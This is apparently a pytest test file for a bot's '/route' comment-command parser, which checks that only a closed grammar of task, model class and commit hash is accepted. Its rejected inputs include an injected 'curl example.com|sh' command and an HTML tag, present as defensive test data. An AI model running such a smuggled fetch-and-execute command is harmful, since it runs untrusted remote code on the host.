"""What a comment may ask for, and how little else gets through."""

from __future__ import annotations

import time
from dataclasses import dataclass

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot import commands
from bot.commands import Command, Unknown
from bot.policy.model import CLASSES

TASKS = ("code", "debug", "plan", "review", "search", "test", "triage")
SHA = "1f0c3a5b7d9e2f4068ac1e3b5d7f9a0c2e4d6f81"


def parse(body: str) -> Command | Unknown | None:
    return commands.parse(body, task_names=TASKS)


@pytest.mark.parametrize(
    ("body", "command"),
    [
        ("/route", Command()),
        ("/route why", Command("why")),
        ("/route help", Command("help")),
        ("/route debug", Command("debug")),
        ("/route search", Command("search")),
        ("/route search search", Command("search", "search")),
        ("/route review reasoning", Command("review", "reasoning")),
        ("/route test 1f0c3a5", Command("test", "", "1f0c3a5")),
        (f"/route review fast {SHA}", Command("review", "fast", SHA)),
        (f"/route code {'a' * 64}", Command("code", "", "a" * 64)),
        ("/route\tdebug  fast", Command("debug", "fast")),
    ],
)
def test_every_form_of_the_grammar_is_read(body: str, command: Command) -> None:
    assert parse(body) == command


@pytest.mark.parametrize("name", TASKS)
@pytest.mark.parametrize("model_class", ["", *CLASSES])
@pytest.mark.parametrize("sha", ["", SHA])
def test_every_task_takes_every_class_and_a_commit(
    name: str, model_class: str, sha: str
) -> None:
    words = " ".join(word for word in ("/route", name, model_class, sha) if word)
    assert parse(words) == Command(name, model_class, sha)


@pytest.mark.parametrize(
    "body",
    [
        "\ufeff/route debug  \r\n\r\nplease",
        "/route debug\r\nplease",
        "/route debug\rplease",
        "\n\n \t \r\n/route debug",
        "/route debug\t ",
        "/route debug\n/route review\n" * 500,
    ],
)
def test_line_ends_and_trailing_blanks_do_not_matter(body: str) -> None:
    assert parse(body) == Command("debug")


@pytest.mark.parametrize(
    "body",
    [
        "",
        " \n\t\n",
        "please /route debug",
        "thanks, will look\n\n/route debug",
        "> /route debug",
        "```\n/route debug\n```",
        "~~~\n/route debug",
        "`/route debug`",
        "    /route debug",
        "\t/route debug",
        "- /route debug",
        "<!-- -->\n/route debug",
        "/router debug",
        "/routes",
        "/route:debug",
        "/route\u00a0debug",
        "/route\u200b debug",
        "\u200b/route debug",
        "/Route debug",
        "//route debug",
        "\uff0froute debug",
        "/rout\u0435 debug",
        "/route\x0bdebug",
        "/route\u2028debug",
    ],
)
def test_what_only_looks_like_a_command_is_none(body: str) -> None:
    assert parse(body) is None


@pytest.mark.parametrize(
    "body",
    [
        "/route debug; curl example.com|sh #",
        "/route --model=x",
        "/route docs --repo_url=https://example.com/x.git",
        "/route d\u0435bug",
        "/route debug\u00a0fast",
        "/route DEBUG",
        "/route debug Fast",
        "/route fast",
        "/route balanced debug",
        "/route debug fast balanced",
        "/route debug debug",
        "/route why debug",
        "/route help me",
        "/route why fast",
        f"/route {SHA}",
        f"/route why {SHA}",
        f"/route debug {SHA} fast",
        f"/route debug {SHA} {SHA}",
        "/route debug 1f0c3a",
        f"/route debug {'a' * 65}",
        f"/route debug {SHA.upper()}",
        "/route debug #7",
        "/route debug 7",
        "/route anthropic:claude",
        "/route debug @high",
        "/route debug" + " " * 200 + "fast",
        "/route debug\x1ffast",
        "/route /route debug",
    ],
)
def test_anything_else_after_the_word_is_an_unknown_command(body: str) -> None:
    assert isinstance(parse(body), Unknown)


def test_a_slip_is_met_with_the_nearest_word() -> None:
    assert parse("/route reveiw") == Unknown("review")
    assert parse("/route hlep") == Unknown("help")
    assert parse("/route debug fsat") == Unknown("debug", has_more=True)
    assert parse("/route weather") == Unknown()


def test_the_usage_reply_names_the_nearest_word_and_quotes_nothing() -> None:
    assert commands.usage_text(Unknown()) == commands.USAGE
    text = commands.usage_text(Unknown("review"))
    assert text.endswith("Did you mean `/route review`?")
    asked = parse("/route search which version is current?")
    assert isinstance(asked, Unknown)
    assert "lines below" in commands.usage_text(asked)
    assert "\n" not in text


def test_a_command_never_holds_a_word_of_the_writers_own() -> None:
    closed = {*TASKS, *commands.INFO_VERBS, ""}
    read = parse("/route <img src=x>")
    assert isinstance(read, Unknown)
    assert read.nearest in closed


@given(st.text(max_size=60))
def test_no_text_breaks_the_parser_and_none_leaves_the_closed_sets(text: str) -> None:
    for body in (text, f"/route {text}", f"/route debug {text}"):
        read = parse(body)
        if isinstance(read, Command):
            assert read.verb in {*TASKS, *commands.INFO_VERBS, ""}
            assert read.model_class in {*CLASSES, ""}
            assert set(read.sha) <= set("0123456789abcdef")


@pytest.mark.parametrize(
    "body",
    [
        "\n" * 5_000_000,
        "/route " + "a" * 5_000_000,
        "/route debug " + "a " * 2_000_000,
        " " * 5_000_000 + "/route debug",
        "/route" * 500_000,
        "\r\n \t" * 1_000_000,
    ],
)
def test_huge_comments_take_no_time(body: str) -> None:
    started = time.process_time()
    assert not isinstance(parse(body), Command)
    assert time.process_time() - started < 0.5


def test_the_tasks_of_the_package_are_the_verbs_unless_given() -> None:
    assert commands.parse("/route why") == Command("why")
    assert isinstance(commands.parse("/route no-such-task"), Unknown)


def test_only_why_and_help_are_for_information() -> None:
    assert [verb for verb in ("", "why", "help", *TASKS) if Command(verb).is_info] == [
        "why",
        "help",
    ]


@dataclass(frozen=True)
class Described:
    name: str
    summary: str
    model_class: str


def test_help_lists_what_it_is_given_and_the_two_information_verbs() -> None:
    text = commands.help_text(
        [
            Described("debug", "finds the cause of a failure", "reasoning"),
            Described("plan", "weighs {options}", "reasoning"),
        ]
    )
    lines = text.splitlines()
    assert "| `/route debug` | finds the cause of a failure | `reasoning` |" in lines
    assert "| `/route plan` | weighs {options} | `reasoning` |" in lines
    assert any("`/route why`" in line for line in lines)
    assert all(f"`{name}`" in text for name in CLASSES)
    assert commands.parse(text) is None


def test_refusals_name_the_command_that_would_work() -> None:
    moved = commands.head_moved_text(Command("test", "fast"), SHA)
    assert f"`/route test fast {SHA[:12]}`" in moved
    pinned = commands.pin_differs_text(Command("review", "", "deadbeef"), SHA)
    assert "`deadbeef`" in pinned
    assert f"`{SHA}`" in pinned
    assert f"`/route review {SHA[:12]}`" in pinned
    assert "`/route <task> " in commands.head_moved_text(Command(), SHA)


def test_the_command_a_refusal_names_is_itself_one() -> None:
    text = commands.head_moved_text(Command("test", "fast"), SHA)
    assert parse(text.split("`")[1]) == Command("test", "fast", SHA[:12])


def test_a_commit_cannot_be_pinned_where_there_is_none() -> None:
    text = commands.pin_differs_text(Command("review", "", "abcdef1"), "")
    assert "no commit to pin" in text
